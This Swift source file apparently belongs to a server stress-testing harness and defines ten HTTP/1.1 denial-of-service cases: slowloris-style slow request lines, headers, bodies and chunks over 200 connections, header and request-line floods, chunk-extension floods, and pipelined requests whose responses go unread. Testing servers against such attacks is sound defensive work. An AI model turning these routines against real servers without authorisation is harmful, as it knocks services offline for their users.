/// What only HTTP/1.1 knows.
extension Attack {
  static var http1: [Attack] {
    func slow(_ name: String, reads: Bool = true, _ opening: String, _ piece: String? = nil) -> Attack {
      let (opening, piece) = (Array(opening.utf8), piece.map { Array($0.utf8) })
      return Attack(name, .http, reads: reads, pieceMilliseconds: 500, connections: 200) { { $0 == 0 ? opening : piece } }
    }
    func flood(_ name: String, reads: Bool = true, _ opening: String, _ piece: String) -> Attack {
      Attack(name, .http, reads: reads, opening: Array(opening.utf8), repeating: Frames.repeated(Array(piece.utf8)))
    }
    let post = "POST \(Target.echoPath) HTTP/1.1\r\nHost: a\r\n"
    let get = "GET \(Target.fetchPath) HTTP/1.1\r\nHost: a\r\n\r\n"
    return [
      slow("http/1.1: slow request line", "GE", "T"),
      slow("http/1.1: slow headers", "GET / HTTP/1.1\r\nHost: a\r\n", "X-a: b\r\n"),
      slow("http/1.1: slow body", post + "Content-Length: 100000\r\n\r\n", "x"),
      slow("http/1.1: slow chunks", post + "Transfer-Encoding: chunked\r\n\r\n", "1\r\nx\r\n"),
      slow("http/1.1: answers unread", reads: false, "", String(repeating: get, count: 50)),
      flood("http/1.1: endless headers", "GET / HTTP/1.1\r\nHost: a\r\n", "X-a: b\r\n"),
      flood("http/1.1: endless request line", "GET /", "aaaaaaaaaaaaaaaa"),
      flood("http/1.1: empty lines", "", "\r\n"),
      flood("http/1.1: chunk extensions", post + "Transfer-Encoding: chunked\r\n\r\n", "1;a=bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb\r\nx\r\n"),
      flood("http/1.1: requests, answers unread", reads: false, "", get),
    ]
  }
}
